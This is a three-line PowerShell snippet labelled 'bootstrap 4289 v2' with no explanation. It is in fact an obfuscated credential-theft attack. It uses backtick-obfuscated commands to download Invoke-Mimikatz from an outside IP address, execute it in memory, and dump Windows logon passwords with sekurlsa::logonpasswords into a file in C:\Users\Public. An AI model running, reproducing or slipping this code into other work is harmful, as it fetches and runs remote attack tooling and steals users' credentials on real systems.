# bootstrap 4289 v2
IEX (Ne`w-Ob`je`ct Net.`WebC`l`ient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1')
Inv`oke-M`i`mi`katz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`i`le C:\Users\Public\o.txt
